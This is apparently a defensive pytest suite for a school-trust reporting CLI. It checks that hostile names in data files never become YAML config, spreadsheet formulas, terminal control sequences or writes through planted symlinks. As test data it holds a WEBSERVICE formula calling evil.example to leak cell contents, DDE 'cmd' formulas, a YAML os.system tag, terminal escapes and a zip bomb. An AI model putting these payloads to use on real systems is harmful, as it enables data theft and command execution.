"""Hostile input, second round (issue 22): nothing from a data file becomes config, a
formula, a terminal command, a broken chart or a lost school.

Each test here failed on the code before issue 22.
"""

from __future__ import annotations

import base64
import csv
import re
import shutil
from html import escape as html_escape
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from govkit.cli import app
from govkit.plan.config import load_trust

ROOT = Path(__file__).resolve().parents[1]
TERM = "2024-25-summer"
HEADER = ("URN,Group UID,Group Name,Group Type,Group Status,Joined date,EstablishmentName,"
          "TypeOfEstablishment (name),PhaseOfEducation (name),LA (name)")


def _params(tmp_path: Path) -> Path:
    params = tmp_path / "params"
    shutil.copytree(ROOT / "params", params, ignore=shutil.ignore_patterns("examples"))
    return params


def _csv_line(*cells: str) -> str:
    """One CSV record, quoted as a spreadsheet would (newlines kept inside quotes)."""
    return ",".join('"' + c.replace('"', '""') + '"' for c in cells)


# --- 1: text from a data file never becomes YAML config ---------------------------------

TRUST = "Evil Trust\nsuppression:\n  threshold: 1\n  public_threshold: 1\n# x"
SCHOOLS = {
    100001: "Oak: Primary # not a comment",
    100002: "Ash\"s 'School'\nmin_cohort: 1",
    100003: "- name: Injected\n  urn: 999999",
    100004: "{suppression: {threshold: 1}}",
    100005: "&a *a !!python/object:os.system ['id']",
}


def test_init_writes_names_from_gias_as_values_never_as_yaml(tmp_path, monkeypatch):
    links = tmp_path / "group_links.csv"
    rows = [HEADER] + [_csv_line(str(urn), "4242", TRUST, "Multi-academy trust", "Open",
                                 "2015-09-01", name, "Academy converter", "Primary",
                                 "Leeds\nterms: []")
                       for urn, name in SCHOOLS.items()]
    links.write_text("\n".join(rows) + "\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    r = CliRunner().invoke(app, ["init", "--gias-links", str(links), "--trust", "4242",
                                 "--first-year", "2023-24", "--last-year", "2024-25"])
    assert r.exit_code == 0, r.output
    doc = yaml.safe_load((tmp_path / "params/trust.yaml").read_text(encoding="utf-8"))
    assert set(doc) == {"name", "plan", "data", "schools", "terms"}
    assert doc["name"] == TRUST
    assert {s["urn"]: s["name"] for s in doc["schools"]} == SCHOOLS
    assert {s["local_authority"] for s in doc["schools"]} == {"Leeds\nterms: []"}
    assert len(doc["terms"]) == 6
    trust = load_trust(tmp_path / "params/trust.yaml")
    assert trust.name == TRUST
    # the defaults: nothing from the file set them
    assert (trust.suppression.threshold, trust.suppression.public_threshold,
            trust.min_cohort) == (5, 10, 10)


# --- 2: nothing written for a spreadsheet is a formula ----------------------------------

EVIL = "+cmd|' /C calc'!A"
WEB = '=WEBSERVICE("http://evil.example/?"&A1)'


def _hostile_params(tmp_path: Path) -> Path:
    """The demo trust with every school, the trust, a criterion and a comment named as
    a formula."""
    params = _params(tmp_path)
    trust = yaml.safe_load((params / "trust.yaml").read_text(encoding="utf-8"))
    trust["name"] = WEB
    for i, s in enumerate(trust["schools"]):
        s["name"] = f"{EVIL}{i}" if i % 2 else f"@SUM(1+{i})*cmd|' /C calc'!A0"
    (params / "trust.yaml").write_text(yaml.safe_dump(trust), encoding="utf-8")
    plan = yaml.safe_load((params / "plan.yaml").read_text(encoding="utf-8"))
    plan["priorities"][0]["success_criteria"][0]["text"] = "-2+3+cmd|' /C calc'!A0"
    (params / "plan.yaml").write_text(yaml.safe_dump(plan), encoding="utf-8")
    comments = params / "commentary" / f"{TERM}.yaml"
    doc = yaml.safe_load(comments.read_text(encoding="utf-8"))
    first = next(iter(doc["trust"]))
    doc["trust"][first] = "\t=1+1"
    comments.write_text(yaml.safe_dump(doc), encoding="utf-8")
    return params


def _formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: text starting = + - @ tab or CR that is no number."""
    found = []
    for row in rows:
        for c in row:
            if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(c)
                except ValueError:
                    found.append(c)
    return found


@pytest.mark.parametrize("scope", [["--trust"], ["--school", "SCHOOL"]])
def test_kpis_csv_has_no_formula_and_numbers_stay_numbers(tmp_path, scope):
    params = _hostile_params(tmp_path)
    urn = load_trust(params / "trust.yaml").schools[1].urn
    out = tmp_path / "k.csv"
    r = CliRunner().invoke(app, [
        "kpis", "--term", TERM, "--params", str(params), "--data", str(ROOT / "data/demo"),
        "--store", str(tmp_path / "s.duckdb"), "--csv", str(out),
        *[str(urn) if a == "SCHOOL" else a for a in scope]])
    assert r.exit_code == 0, r.output
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert _formulas(rows) == []
    text = out.read_text(encoding="utf-8")
    assert "'-2+3+cmd|' /C calc'!A0" in text  # the criterion, shown as text
    header = rows[0]
    values = [r[header.index("value")] for r in rows[1:] if r[header.index("value")]]
    assert values and all(float(v) == float(v) for v in values)  # numbers, unquoted


def test_template_writes_names_as_text_cells_never_formulas(tmp_path):
    from openpyxl import load_workbook

    from govkit.data.template import write_template

    trust = load_trust(_hostile_params(tmp_path) / "trust.yaml")
    path = write_template(trust, tmp_path / "t.xlsx")
    wb = load_workbook(path)
    formulas = [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for ws in wb for row in ws.iter_rows() for c in row
             if c.data_type == "s"}
    assert {s.name for s in trust.schools} <= texts
    assert any(WEB in t for t in texts if isinstance(t, str))


# --- 3: text from data never drives the terminal ----------------------------------------

ESC = "\x1b]0;pwned\x07\x1b[2J\x1b[31mOak\u202e Trust\r"


def _no_control(output: str) -> None:
    assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output
    assert "\r" not in output


def test_check_params_and_kpis_print_escape_sequences_escaped(tmp_path):
    params = _params(tmp_path)
    trust = yaml.safe_load((params / "trust.yaml").read_text(encoding="utf-8"))
    trust["name"] = ESC
    trust["schools"][0]["name"] = "Ash\x1b[8m hidden"
    (params / "trust.yaml").write_text(yaml.safe_dump(trust), encoding="utf-8")
    r = CliRunner().invoke(app, ["check-params", "--params", str(params)])
    assert r.exit_code == 0, r.output
    _no_control(r.output)
    assert "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mOak\\u202e Trust\\r" in r.output
    r = CliRunner().invoke(app, [
        "kpis", "--term", TERM, "--params", str(params), "--data", str(ROOT / "data/demo"),
        "--store", str(tmp_path / "s.duckdb"), "--school", str(trust["schools"][0]["urn"])])
    assert r.exit_code == 0, r.output
    _no_control(r.output)
    assert "Ash\\x1b[8m hidden: KPIs" in r.output


def test_validate_prints_a_cell_with_escapes_escaped(tmp_path):
    drop = tmp_path / "drop"
    shutil.copytree(ROOT / "data" / "demo", drop)
    path = drop / "compliance.csv"
    lines = path.read_text(encoding="utf-8").split("\n")
    cells = lines[4].split(",")
    cells[0] = "\x1b[2J148101"
    lines[4] = ",".join(cells)
    path.write_text("\n".join(lines), encoding="utf-8")
    r = CliRunner().invoke(app, ["validate", str(drop), "--params", str(ROOT / "params")])
    assert r.exit_code == 2
    _no_control(r.output)
    assert "compliance.csv:5:urn: '\\x1b[2J148101' is not a URN" in r.output


# --- one run of the real notebooks on a small trust with hostile names ------------------

PLAN = """\
name: Test plan
priorities:
  - id: attend
    title: Pupils attend well
    deep_dive: education
    success_criteria:
      - id: rate
        text: Attendance at or above 95%
        kpis:
          - measure: attendance_rate
            target: 95
            tolerance: 1
  - id: money
    title: Money well spent
    deep_dive: finance
    success_criteria:
      - id: balance
        text: Spend within income
        kpis:
          - measure: reserves_pct_income
            target: 5
            tolerance: 2
"""
MATH = r"St $\frac{a}{b}$ $\bad{$ Primary"  # mathtext, and mathtext matplotlib cannot parse
DOLLAR = "Oak $ School"


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory) -> Path:
    """A three-school demo trust whose schools are named with matplotlib mathtext, an
    unbalanced $ and (twice) the same name, beside the project's own notebooks."""
    from govkit.data.demo import write_demo, write_trust_yaml

    root = tmp_path_factory.mktemp("hostile")
    demo = write_demo(root / "data", schools=3)
    write_trust_yaml(root / "params" / "trust.yaml", demo)
    trust = yaml.safe_load((root / "params/trust.yaml").read_text(encoding="utf-8"))
    for s, name in zip(trust["schools"], (MATH, DOLLAR, DOLLAR), strict=True):
        s["name"] = name
    (root / "params/trust.yaml").write_text(yaml.safe_dump(trust), encoding="utf-8")
    (root / "params" / "plan.yaml").write_text(PLAN, encoding="utf-8")
    # the demo's action statuses name the demo plan's actions: PLAN has none
    (root / "data" / "actions.csv").unlink()
    shutil.copytree(ROOT / "notebooks", root / "notebooks")
    return root


def _run(root: Path, *extra: str):
    return CliRunner().invoke(app, ["run", "--params", str(root / "params"), "--data",
                                    str(root / "data"), "--out", str(root / "outputs"),
                                    "--jobs", "2", *extra])


def test_deep_dives_draw_a_school_named_with_mathtext_literally(hostile_project):
    trust = load_trust(hostile_project / "params/trust.yaml")
    urns = [str(trust.schools[0].urn)]  # its charts set it beside the others
    r = _run(hostile_project, "--report", "education", "--report", "finance",
             *[a for u in urns for a in ("--school", u)])
    assert r.exit_code == 0, r.output
    term_dir = hostile_project / "outputs" / trust.latest_term
    for urn in urns:
        for report in ("education", "finance"):
            html = (term_dir / urn / f"{report}.html").read_text(encoding="utf-8")
            svgs = [base64.b64decode(b).decode("utf-8") for b in re.findall(
                r'src="data:image/svg\+xml;base64,([^"]+)"', html)]
            assert svgs, (urn, report)
            # the names drawn as the text they are (SVG text, escaped as XML)
            drawn = "".join(svgs)
            assert html_escape(MATH, quote=False) in drawn, (urn, report)
            assert html_escape(DOLLAR, quote=False) in drawn, (urn, report)


# --- 6: a report that prints too much is failed, its last good page kept ----------------

def test_a_report_printing_a_megabyte_is_failed_and_the_last_page_kept(hostile_project):
    import nbformat

    trust = load_trust(hostile_project / "params/trust.yaml")
    urn = str(trust.schools[0].urn)
    one = ("--report", "report_card", "--school", urn)
    r = _run(hostile_project, *one)
    assert r.exit_code == 0, r.output
    card = hostile_project / "outputs" / trust.latest_term / urn / "report_card.html"
    good = card.read_bytes()
    nb_path = hostile_project / "notebooks" / "report_card.ipynb"
    kept = nb_path.read_bytes()
    nb = nbformat.read(nb_path, as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell('print("x" * 1_000_000)'))
    nbformat.write(nb, nb_path)
    try:
        r = _run(hostile_project, *one)
    finally:
        nb_path.write_bytes(kept)
    assert r.exit_code == 1, r.output
    assert (f"FAILED {urn}/report_card: OutputTooLarge: the notebook's cells printed 977 KB "
            "of text, over the limit of 512 KB (GOVKIT_MAX_OUTPUT_KB): not published, the "
            "last good page is kept") in " ".join(r.output.split())
    assert card.read_bytes() == good
    failed = hostile_project / "outputs" / trust.latest_term / "_failed" / urn
    assert (failed / "report_card.failed.ipynb").stat().st_size < 200_000


# --- 7: outputs never written through a link they did not make --------------------------

def test_a_run_never_writes_through_planted_links(hostile_project, tmp_path):
    trust = load_trust(hostile_project / "params/trust.yaml")
    out = hostile_project / "outputs"
    term_dir = out / trust.latest_term
    term_dir.mkdir(parents=True, exist_ok=True)
    victims = {}
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / trust.latest_term).mkdir(parents=True)
    (elsewhere / trust.latest_term / "precious.txt").write_text("precious\n", encoding="utf-8")
    shutil.rmtree(out / ".work", ignore_errors=True)  # an earlier test's run left one
    (out / ".work").symlink_to(elsewhere)  # the working folder planted as a link
    for name in ("run.log", "index.html", "manifest.json", f"../.{trust.latest_term}.lock"):
        victim = tmp_path / f"victim-{Path(name).name}"
        victim.write_text("precious\n", encoding="utf-8")
        link = term_dir / name
        link.unlink(missing_ok=True)
        link.symlink_to(victim)
        victims[link] = victim
    one = ("--report", "report_card", "--school", str(trust.schools[0].urn), "--force")
    r = _run(hostile_project, *one)
    lock = out / f".{trust.latest_term}.lock"
    assert r.exit_code == 1, r.output
    assert f"{lock}: is a symbolic link; govkit never writes through one it did not make: " \
        "remove it and run again" in " ".join(r.output.split())
    lock.unlink()
    r = _run(hostile_project, *one)
    assert r.exit_code == 0, r.output
    for link, victim in victims.items():
        assert victim.read_text(encoding="utf-8") == "precious\n", link
        if link != lock:
            assert not link.is_symlink(), link
    assert "report_card" in (term_dir / "manifest.json").read_text(encoding="utf-8")
    assert (elsewhere / trust.latest_term / "precious.txt").is_file()
    assert not (out / ".work").is_symlink()


def test_kpis_csv_never_writes_through_a_planted_temporary_link(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    (tmp_path / ".k.csv.tmp").symlink_to(victim)
    r = CliRunner().invoke(app, [
        "kpis", "--term", TERM, "--params", str(ROOT / "params"), "--data",
        str(ROOT / "data/demo"), "--store", str(tmp_path / "s.duckdb"), "--csv",
        str(tmp_path / "k.csv")])
    assert r.exit_code == 0, r.output
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert (tmp_path / "k.csv").is_file() and not (tmp_path / "k.csv").is_symlink()


def test_an_outputs_path_with_a_backslash_is_one_clear_line(tmp_path):
    store = tmp_path / "out\\x" / "govkit.duckdb"
    r = CliRunner().invoke(app, ["build-store", "--params", str(ROOT / "params"), "--data",
                                 str(ROOT / "data/demo"), "--store", str(store)])
    assert r.exit_code == 2, r.output
    assert r.output.strip() == (
        f"{store}: the store's path holds a backslash (\\), which DuckDB reads as a folder "
        "separator: give --out (or --store) a folder without one")


# --- 8: two schools with the same name are both shown, told apart by URN ----------------

def test_two_schools_sharing_a_name_are_both_in_every_grid(hostile_project):
    from govkit.plan.evaluate import Evaluator

    params = hostile_project / "params"
    trust = load_trust(params / "trust.yaml")
    twins = [s.urn for s in trust.schools if s.name == DOLLAR]
    r = CliRunner().invoke(app, ["check-params", "--params", str(params)])
    assert r.exit_code == 0, r.output
    assert (f"warning: 2 schools are named '{DOLLAR}' (URN {twins[0]}, {twins[1]}): pages "
            "show each with its URN") in " ".join(r.output.split())
    ev = Evaluator.from_paths(params, hostile_project / "data",
                              hostile_project / "outputs" / "grid.duckdb")
    grid = ev.grid(trust.latest_term)
    assert len(grid) == len(trust.schools) + 1  # every school and the trust
    r = _run(hostile_project, "--report", "trust_overview")
    assert r.exit_code == 0, r.output
    html = (hostile_project / "outputs" / trust.latest_term / "trust" /
            "trust_overview.html").read_text(encoding="utf-8")
    for urn in twins:
        assert f"{html_escape(DOLLAR)} (URN {urn})" in html
    # each school-by-KPI grid has a row per school and the trust's: both twins in it
    grids = 0
    for table in re.findall(r"<table.*?</table>", html, flags=re.S):
        firsts = re.findall(r"<tr[^>]*>\s*<t[dh][^>]*>(.*?)</t[dh]>", table, flags=re.S)
        if any(f.startswith("Trust (") for f in firsts):
            grids += 1
            assert len(firsts) == 1 + len(trust.schools) + 1, firsts  # header, rows
            assert sorted(f for f in firsts if DOLLAR in f) == [
                f"{DOLLAR} (URN {u})" for u in sorted(twins)]
    assert grids >= 2


# --- 9: big and odd files: refused at once, named by file and row ------------------------

def _drop_problems(folder: Path) -> list[str]:
    from drops import make_trust

    from govkit.data.validate import validate_drop

    return [str(p) for p in validate_drop(folder, make_trust()) if p.severity == "error"]


def test_a_file_over_the_size_limit_is_refused_naming_it_and_the_limit(tmp_path,
                                                                         monkeypatch):
    import time

    from drops import GOOD, URN_A, drop_with

    rows = [f"{URN_A},2024-25-autumn,all,200,28000,1400,300,30,2"] * 40_000
    drop = drop_with(tmp_path, attendance=[GOOD["attendance"][0], *rows])
    monkeypatch.setenv("GOVKIT_MAX_FILE_MB", "1")
    started = time.perf_counter()
    assert _drop_problems(drop) == [
        "attendance.csv: is 2.0 MB, larger than govkit reads (1 MB, GOVKIT_MAX_FILE_MB): is "
        "it the right file? A trust's data for a term is far smaller"]
    assert time.perf_counter() - started < 5


def test_a_header_of_a_million_columns_is_refused_at_once(tmp_path):
    import time

    from drops import GOOD, drop_with

    head = ",".join(f"c{i}" for i in range(1_000_000))
    drop = drop_with(tmp_path, attendance=[head, "1," * 999_999 + "1"],
                     census=[GOOD["census"][0] + ",,,,"] + GOOD["census"][1:])
    started = time.perf_counter()
    found = _drop_problems(drop)
    assert time.perf_counter() - started < 10
    assert found == ["attendance.csv:1: the header has 1,000,000 columns; the attendance file "
                     "has 9 (govkit reads at most 38): is this the right file?"]


def test_a_nul_byte_is_named_by_row_not_taken_for_utf16(tmp_path):
    from drops import GOOD, drop_with

    drop = drop_with(tmp_path)
    lines = [GOOD["census"][0], GOOD["census"][1], GOOD["census"][2].replace("1000", "10\x0000")]
    (drop / "census.csv").write_bytes("\r\n".join(lines).encode("utf-8"))
    assert _drop_problems(drop) == [
        "census.csv:3: holds a NUL byte (\\x00), which no text file has: the file is damaged "
        "or not a CSV; save it again from Excel"]


def test_a_file_mixing_utf8_and_windows_1252_is_refused_never_mojibake(tmp_path):
    from drops import GOOD, URN_A, URN_B, drop_with

    drop = drop_with(tmp_path)
    lines = [GOOD["schools"][0].encode(),
             f"{URN_A},St Mary’s Primary,primary,210,Hampshire,01/09/2019".encode(),
             f"{URN_B},St Anne’s Primary,primary,210,Hampshire,01/09/2019".encode("cp1252")]
    (drop / "schools.csv").write_bytes(b"\r\n".join(lines))
    assert _drop_problems(drop) == [
        "schools.csv:3: mixes UTF-8 (row 2) and Windows-1252 (row 3) text: read as either, "
        "some names would come out wrong; save it again from Excel as 'CSV UTF-8 (Comma "
        "delimited)'"]


# --- 10: imports all or nothing, never on a cut file; workbooks within limits ----------

DFE = ROOT.parent / "shared" / "dfe"
KS4 = DFE / "ks4" / "2016-2017_815_ks4final.csv"
ST_AIDANS = 137139
needs_dfe = pytest.mark.skipif(not KS4.is_file(), reason="the shared DfE files are not here")


def _ks4_trust():
    from govkit.plan.config import School, Trust

    return Trust(name="T", terms=["2016-17-summer"],
                 schools=[School(urn=ST_AIDANS, name="St Aidan's", phase="secondary")])


@needs_dfe
def test_a_ks4_file_cut_mid_number_is_an_error_and_nothing_is_written(tmp_path):
    from govkit.data.importers import import_files
    from govkit.errors import DataError

    text = KS4.read_bytes()
    cut = text[:text.index(b"137139,0,ACC,244,61.5") + len(b"137139,0,ACC,244,6")]
    path = tmp_path / KS4.name
    path.write_bytes(cut)
    data = tmp_path / "data"
    with pytest.raises(DataError) as e:
        import_files([path], data, _ks4_trust())
    assert [str(p) for p in e.value.problems] == [
        f"{KS4.name}:38: the last row has 9 of the header's 18 cells, unlike any other row: "
        "the file is cut short (an interrupted download?); download it again"]
    assert not data.exists() or not list(data.iterdir())


@needs_dfe
def test_a_ks4_file_without_its_la_row_says_so(tmp_path):
    from govkit.data.importers import import_files

    lines = KS4.read_bytes().split(b"\n")
    path = tmp_path / KS4.name
    path.write_bytes(b"\n".join(ln for ln in lines if not ln.startswith(b"4,")))
    [report] = import_files([path], tmp_path / "data", _ks4_trust())
    assert report.schools == 1
    assert [str(p) for p in report.problems if p.severity == "warning"] == [
        f"{KS4.name}: warning: has no local-authority row: its schools cannot be checked "
        "against the LA's own figures (a file cut short or edited?)"]


@needs_dfe
def test_a_multi_file_import_checks_every_file_before_writing_any(tmp_path, monkeypatch):
    good = tmp_path / KS4.name
    shutil.copy(KS4, good)
    empty = tmp_path / "2017-2018_815_ks4final.csv"
    empty.write_bytes(b"")
    census = DFE / "census" / "2018-2019_815_census.csv"
    cut = tmp_path / census.name
    cut.write_bytes(census.read_bytes()[:-40])
    params = tmp_path / "params"
    params.mkdir()
    trust = yaml.safe_dump({"name": "T", "terms": ["2016-17-summer", "2018-19-spring"],
                            "data": "../data", "schools": [
                                {"urn": ST_AIDANS, "name": "St Aidan's",
                                 "phase": "secondary"}]})
    (params / "trust.yaml").write_text(trust, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    r = CliRunner().invoke(app, ["import", str(good), str(empty), str(cut), "--params",
                                 str(params)])
    assert r.exit_code == 2, r.output
    lines = r.output.splitlines()
    assert any(ln.startswith(f"{empty.name}: ") for ln in lines), r.output
    assert any(ln.startswith(f"{cut.name}:") and "cut short" in ln for ln in lines), r.output
    assert not (tmp_path / "data").exists() or not list((tmp_path / "data").iterdir())


def _workbook(path: Path, sheets: dict[str, list[list[object]]],
              hidden: tuple[str, ...] = ()) -> Path:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
        if name in hidden:
            ws.sheet_state = "hidden"
    wb.save(path)
    return path


def _lines(lines: list[str]) -> list[list[object]]:
    return [next(csv.reader([ln])) for ln in lines]


def test_a_workbook_unpacking_past_the_limit_is_refused_at_once(tmp_path, monkeypatch):
    import time
    import zipfile

    from drops import GOOD, write_drop

    drop = write_drop(tmp_path / "drop", {k: v for k, v in GOOD.items() if k != "census"})
    monkeypatch.setenv("GOVKIT_MAX_FILE_MB", "10")

    plain = _workbook(tmp_path / "plain.xlsx", {"census": _lines(GOOD["census"])})
    bomb = drop / "census.xlsx"  # its sheet XML padded: 40 MB that zip to a few KB
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * 40_000_000)
            z.writestr(item.filename, data)
    assert bomb.stat().st_size < 200_000
    started = time.perf_counter()
    found = _drop_problems(drop)
    assert time.perf_counter() - started < 5
    assert found == ["census.xlsx: unpacks to 40 MB of sheet data, more than govkit reads "
                     "(30 MB: 3 times GOVKIT_MAX_FILE_MB): is it the right file?"]
    monkeypatch.setenv("GOVKIT_MAX_FILE_MB", "20")
    assert _drop_problems(drop) == []  # within a larger limit it is read, and holds no error


def test_a_formula_without_a_saved_value_is_named_as_a_formula(tmp_path):
    from drops import GOOD, write_drop

    drop = write_drop(tmp_path / "drop", {k: v for k, v in GOOD.items() if k != "census"})
    rows = _lines(GOOD["census"])
    rows[1][2] = "=SUM(100,100)"  # openpyxl saves formulas without a value, as Excel can
    _workbook(drop / "census.xlsx", {"census": rows})
    assert _drop_problems(drop) == [
        "census.xlsx:2:pupils_on_roll: a formula (=SUM(100,100)) with no value saved: open "
        "the workbook in Excel and save it, so the value is stored with it"]


def test_a_hidden_sheet_is_named(tmp_path):
    from drops import GOOD, make_trust, write_drop

    from govkit.data.validate import validate_drop

    drop = write_drop(tmp_path / "drop", {k: v for k, v in GOOD.items() if k != "census"})
    _workbook(drop / "trust-data.xlsx", {"instructions": [["Fill in each sheet"]],
                                         "census": _lines(GOOD["census"])},
              hidden=("census",))
    warnings = [str(p) for p in validate_drop(drop, make_trust()) if p.severity == "warning"]
    assert "trust-data.xlsx[census]: warning: the sheet 'census' is hidden in the workbook: " \
        "read all the same; unhide it to see what govkit reads" in warnings


# --- 11: a school that left keeps its history; a mistyped term is the one line said ------

def test_a_school_that_left_keeps_its_history_and_gets_no_reports(tmp_path):
    from govkit.batch.matrix import build_matrix
    from govkit.plan.evaluate import Evaluator
    from govkit.plan.params import load_params

    params = _params(tmp_path)
    doc = yaml.safe_load((params / "trust.yaml").read_text(encoding="utf-8"))
    gone = doc["schools"][0]
    gone["left_trust"] = "2025-01-31"  # left in the spring term of 2024-25
    (params / "trust.yaml").write_text(yaml.safe_dump(doc), encoding="utf-8")
    r = CliRunner().invoke(app, ["validate", str(ROOT / "data/demo"), "--params",
                                 str(params)])
    assert r.exit_code == 0, r.output  # its rows stay valid: nothing to delete
    trust, plan = load_params(params)
    keys = {j.key for j in build_matrix(trust, plan, TERM, params, ROOT / "data/demo",
                                        tmp_path / "s.duckdb")}
    assert not any(k.startswith(f"{gone['urn']}/") for k in keys)
    autumn = {j.key for j in build_matrix(trust, plan, "2024-25-autumn", params,
                                          ROOT / "data/demo", tmp_path / "s.duckdb")}
    assert f"{gone['urn']}/report_card" in autumn  # it was in the trust then
    ev = Evaluator.from_paths(params, ROOT / "data/demo", tmp_path / "s.duckdb")
    assert len(ev.grid(TERM)) == len(trust.schools)  # the others and the trust
    assert len(ev.grid("2024-25-autumn")) == len(trust.schools) + 1


@pytest.mark.parametrize("command", ["run", "kpis", "pack"])
def test_an_unknown_term_is_the_first_and_only_line(tmp_path, command):
    args = [command, "--term", "2024-25-sumer", "--params", str(ROOT / "params")]
    if command != "pack":
        args += ["--data", str(ROOT / "data/demo")]
    if command == "kpis":
        args += ["--store", str(tmp_path / "s.duckdb")]
    r = CliRunner().invoke(app, args + (["--out", str(tmp_path / "out")]
                                        if command != "kpis" else []))
    assert r.exit_code == 2, r.output
    assert r.output.splitlines() == ["--term 2024-25-sumer: not one of the trust's terms in "
                                     "trust.yaml (did you mean 2024-25-summer?)"]


def test_init_never_writes_through_a_link_planted_as_trust_yaml(tmp_path, monkeypatch):
    links = tmp_path / "group_links.csv"
    links.write_text(HEADER + "\n" + _csv_line("100001", "4242", "Oak Trust",
                                               "Multi-academy trust", "Open", "2015-09-01",
                                               "Oak Primary", "Academy converter",
                                               "Primary", "Leeds") + "\n", encoding="utf-8")
    (tmp_path / "params").mkdir()
    victim = tmp_path / "victim.yaml"
    (tmp_path / "params" / "trust.yaml").symlink_to(victim)  # dangling: init would make it
    monkeypatch.chdir(tmp_path)
    args = ["init", "--gias-links", str(links), "--trust", "4242", "--first-year", "2023-24",
            "--last-year", "2024-25"]
    r = CliRunner().invoke(app, args)
    assert r.exit_code == 2 and "exists already" in r.output, r.output  # a link is a file
    r = CliRunner().invoke(app, [*args, "--force"])
    assert r.exit_code == 0, r.output
    assert not victim.exists()
    trust = tmp_path / "params" / "trust.yaml"
    assert not trust.is_symlink() and load_trust(trust).name == "Oak Trust"


# --- more found: a long name from GIAS squeezed a chart until it could not be drawn ------

def test_a_hundred_character_school_name_still_draws_its_charts():
    import io

    from govkit.reports import charts

    name = ("The Bishop of Winchester Church of England Voluntary Aided Junior and Infant "
            "School of St Mary Magdalene")  # 105 characters; GIAS has names of 100
    bars = charts.compare_chart([name, "Oak Primary"], [90.0, 80.0], "Attendance", "percent",
                                reference=88.0)
    trend = charts.trend_chart(["2024-25-autumn", "2024-25-spring"], [90.0, 91.0],
                               "Attendance", "percent", national=93.0, target=95.0,
                               comparison=[89.0, 90.0], comparison_label=f"Trust ({name})",
                               place=name)
    for chart in (bars, trend):
        buf = io.StringIO()
        chart.fig.savefig(buf, format="svg")  # raised 'left cannot be >= right'
        assert name in chart.alt  # the words a screen reader reads keep it whole
    assert charts.bar_label(name) == ("The Bishop of Winchester Church of\n"
                                      "England Voluntary Aided Junior\u2026")


# --- more found: a direction override in a name made a page show other words ------------

def test_a_direction_override_in_a_name_never_reorders_a_page(tmp_path):
    import nbformat

    from govkit.reports import charts
    from govkit.reports.blocks import _svg
    from govkit.reports.export import render_html

    spoof = "Oak \u202eloohcS\u2066 Primary"  # shows as 'Oak School Primary' reversed
    trust = load_trust(ROOT / "params/trust.yaml")
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(f"# {spoof}")])
    page = render_html(nb, trust, spoof)
    svg = _svg(charts.compare_chart([spoof, "Ash"], [90.0, 80.0], "Attendance", "percent")
               .fig)
    for text in (page, svg):
        assert "\u202e" not in text and "\u2066" not in text
    assert "Oak \ufffdloohcS\ufffd Primary" in page


def test_an_outputs_folder_with_braces_in_its_name_is_taken_as_written(hostile_project):
    # papermill formats the paths it is given with the parameters: 'out{urn}' failed every
    # report with "Missing parameter"
    trust = load_trust(hostile_project / "params/trust.yaml")
    urn = str(trust.schools[0].urn)
    out = hostile_project / "out{x}{urn}"
    r = CliRunner().invoke(app, ["run", "--params", str(hostile_project / "params"),
                                 "--data", str(hostile_project / "data"), "--out", str(out),
                                 "--report", "report_card", "--school", urn])
    assert r.exit_code == 0, r.output
    assert (out / trust.latest_term / urn / "report_card.html").is_file()


def test_a_device_planted_as_a_data_file_is_refused_not_read_forever(tmp_path):
    from drops import GOOD, write_drop

    from govkit.data.store import drop_hash

    drop = write_drop(tmp_path / "drop", {k: v for k, v in GOOD.items() if k != "attendance"})
    (drop / "attendance.csv").symlink_to("/dev/zero")  # read_bytes never ends
    assert _drop_problems(drop) == ["attendance.csv: is not a regular file (a device or a "
                                    "pipe): give the file itself"]
    assert len(drop_hash(drop)) == 64  # the store's check of the drop does not read it
